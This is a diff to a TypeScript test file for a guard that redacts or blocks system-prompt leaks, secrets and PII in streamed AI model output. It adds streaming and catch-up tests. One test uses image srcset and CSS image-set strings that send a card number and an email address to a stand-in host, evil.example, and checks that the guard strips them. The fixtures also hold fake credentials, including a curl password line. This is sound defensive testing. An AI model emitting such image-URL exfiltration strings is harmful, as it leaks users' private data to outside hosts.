@@ -1,8 +1,10 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { encodeBase64 } from "../text/index.ts";
 import { createGuard } from "./create-guard.ts";
 import type { Direction } from "./detector.ts";
 import { detectors } from "./detectors/index.ts";
+import { utf8Bytes } from "./encoding.ts";
 import type { Guard, GuardPolicy, Inspection } from "./guard.ts";
 
 const SYSTEM_PROMPT =
@@ -24,14 +26,19 @@ function policyFor(direction: Direction, action: "redact" | "flag" | "block"): G
   };
 }
 
+/** @param asks whether to catch up after a chunk, in turn */
 function stream(
   guard: Guard,
   direction: Direction,
   chunks: readonly string[],
+  asks: readonly boolean[] = [false],
 ): { text: string; inspection: Inspection } {
   const open = guard.stream({ origin: "assistant", direction, path: "/x" }, { systemPrompt: SYSTEM_PROMPT });
   let text = "";
-  for (const chunk of chunks) text += open.push(chunk).text;
+  for (const [at, chunk] of chunks.entries()) {
+    text += open.push(chunk).text;
+    if (asks[at % asks.length] === true) text += open.catchUp().text;
+  }
   text += open.end().text;
   return { text, inspection: open.inspection() };
 }
@@ -56,6 +63,8 @@ const piece = fc.oneof(
     CANARY,
     SYSTEM_PROMPT,
     SYSTEM_PROMPT.slice(20, 110),
+    encodeBase64(utf8Bytes(SYSTEM_PROMPT)),
+    encodeBase64(utf8Bytes(SYSTEM_PROMPT.slice(11, 71))),
     prose,
     "\n",
     " ",
@@ -90,6 +99,49 @@ describe.each(["input", "output"] as const)("a stream of %s", (direction) => {
         expect(piecewise.inspection.verdict).toBe(whole.verdict);
       }),
       { numRuns: Number(process.env.GUARD_RUNS ?? 400) },
+    );
+  });
+
+  it("G7: releases the same when it is asked to catch up in the middle of a word", () => {
+    const asks = fc.array(fc.boolean(), { minLength: 1, maxLength: 5 });
+    fc.assert(
+      fc.property(texts, sizes, asks, (text, lengths, turns) => {
+        const chunks = cut(text, lengths);
+        const asked = stream(redacting, direction, chunks, turns);
+        const alone = stream(redacting, direction, chunks);
+        expect(asked.text).toBe(alone.text);
+        expect(asked.inspection.hits).toEqual(alone.inspection.hits);
+        expect(stream(blocking, direction, chunks, turns).inspection.isBlocked).toBe(
+          stream(blocking, direction, chunks).inspection.isBlocked,
+        );
+      }),
+      { numRuns: Number(process.env.GUARD_RUNS ?? 200) },
+    );
+  });
+
+  it("G7: tells how far it has let go, and a stream opened there goes on as this one does", () => {
+    fc.assert(
+      fc.property(texts, sizes, fc.nat(12), (text, lengths, turns) => {
+        const chunks = cut(text, lengths);
+        const meta = { origin: "assistant", direction, path: "/x" } as const;
+        const first = redacting.stream(meta, { systemPrompt: SYSTEM_PROMPT });
+        for (const chunk of chunks.slice(0, turns)) first.push(chunk);
+        const from = first.decided;
+        const before = text.slice(0, from);
+        const second = redacting.stream(meta, { systemPrompt: SYSTEM_PROMPT, before });
+        let pushed = chunks.slice(0, turns).join("");
+        let left = second.push(pushed.slice(from)).text;
+        const rest = [first, second].map(() => "");
+        for (const chunk of chunks.slice(turns)) {
+          pushed += chunk;
+          rest[0] += first.push(chunk).text;
+          rest[1] += second.push(chunk).text;
+        }
+        left += rest[1];
+        expect(left + second.end().text).toBe(rest[0] + first.end().text);
+        expect([first.decided, second.decided]).toEqual([pushed.length, pushed.length - from]);
+      }),
+      { numRuns: 200 },
     );
   });
 
@@ -135,6 +187,7 @@ const LABELLED: readonly (readonly [string, string])[] = [
   ["password = ", "Tr0ub4dor&3"],
   ["my password is ", "Xk29-fj3k!w"],
   ["postgres://app:", "Xk29fj3kQz"],
+  ["curl -sS -u ci:", "Xk29fj3kQz"],
   ["client_secret: ", "q7Zp2XvR9mKt4WbN8sLd3HfJ"],
 ];
 /** As many characters may go out before a match can be told to begin: `4`, `+4`, `sk` are in every text. */
@@ -222,6 +275,90 @@ describe.each(["redact", "block"] as const)("secrets in a stream that would %s t
       { numRuns: Number(process.env.GUARD_RUNS ?? 300) },
     );
     expect(unmatched).toBeGreaterThan(100);
+  });
+});
+
+describe.each(detectors.all)("$id alone", (kind) => {
+  it("G7: releases what redacting the whole of each example would leave", () => {
+    const policy = (options: Readonly<Record<string, unknown>>, direction: Direction): GuardPolicy => ({
+      name: kind.id,
+      onError: "closed",
+      detectors: [{ detector: kind.id, [direction]: "redact", options }],
+      stream: { maxHoldCharacters: 16_384 },
+    });
+    const kinds = kind.id === "pii" ? ["email", "phone", "iban", "it-codice-fiscale", "payment-card"] : [];
+    const settings = [{}, ...kinds.map((entity) => ({ entities: [entity] }))];
+    for (const example of [...kind.examples.hits, ...kind.examples.misses])
+      for (const setting of settings) {
+        const direction = example.direction ?? kind.directions[0]!;
+        const guard = createGuard(policy({ ...example.options, ...setting }, direction));
+        const origin = kind.origins.includes("assistant") ? "assistant" : kind.origins[0]!;
+        const context = { systemPrompt: example.systemPrompt ?? "" };
+        const text = `${example.text} ${example.text}\n`;
+        const whole = guard.inspect([{ text, origin, direction, path: "" }], context).texts[0];
+        for (const length of [1, 3, 7]) {
+          const open = guard.stream({ origin, direction, path: "" }, context);
+          const released = cut(text, [length]).map((chunk) => open.push(chunk).text);
+          expect(released.join("") + open.end().text).toBe(whole);
+        }
+      }
+  });
+});
+
+describe("a stream by words", () => {
+  const open = (maxHoldCharacters = 16_384, nowUs = () => 0) =>
+    createGuard({ ...policyFor("output", "redact"), stream: { maxHoldCharacters } }, { nowUs }).stream({
+      origin: "assistant",
+      direction: "output",
+      path: "",
+    });
+
+  it("G7: lets a word go when it has ended, and one that is too long for a word as it comes", () => {
+    const words = open();
+    expect(["We ", "move", "d h", "ouse"].map((chunk) => words.push(chunk).text)).toEqual(["We ", "", "moved ", ""]);
+    expect(words.end().text).toBe("house");
+    const run = open();
+    let released = "";
+    for (let i = 0; i < 1_000; i++) released += run.push("z").text;
+    expect(released.length).toBeGreaterThan(800);
+    expect(released + run.end().text).toBe("z".repeat(1_000));
+  });
+
+  it("G7: lets a list of images go whole, so that what stands in it later is not taken for text", () => {
+    const listed = [
+      '<img srcset=", //evil.example/a 1x, //evi{"css":1} and on',
+      '<img srcset="https://docs.example.com/a 1x, //evil.example/4111 1111 1111 1111" src="b">',
+      'a{background:image-set( "/a.png" 1x, "//evil.example/anna@mail.example.org" 2x)}',
+    ];
+    const guard = createGuard(policyFor("output", "redact"));
+    for (const text of listed) {
+      const whole = guard.inspect([{ text, origin: "assistant", direction: "output", path: "/x" }]).texts[0];
+      expect(whole).not.toContain("//evi");
+      for (const length of [1, 2, 3, 5, 8, 13]) expect(stream(guard, "output", cut(text, [length])).text).toBe(whole);
+    }
+  });
+
+  it("G6: takes a word for no match, however small the bound", () => {
+    const stream = { maxHoldCharacters: 2 };
+    const detectors = [{ detector: "hidden-unicode", output: "redact" }] as const;
+    const small = createGuard({ name: "small", onError: "closed", detectors, stream }).stream({
+      origin: "assistant",
+      direction: "output",
+      path: "",
+    });
+    const released = ["colour", "f", "ul", " ", "red"].map((chunk) => small.push(chunk).text).join("");
+    expect(released + small.end().text).toBe("colourful red");
+    expect(small.inspection().isBlocked).toBe(false);
+  });
+
+  it("G7: is timed at first by every look and later by one in eight, which counts for eight", () => {
+    let us = 0;
+    const timed = open(16_384, () => us++);
+    for (let i = 0; i < 64; i++) timed.push("word ");
+    const { runs } = timed.inspection();
+    // Each look that is timed takes a detector one tick of this clock.
+    for (const run of runs) expect(run.elapsedUs).toBe(8 + 7 * 8);
+    expect(us).toBeLessThan(64 * runs.length);
   });
 });
 
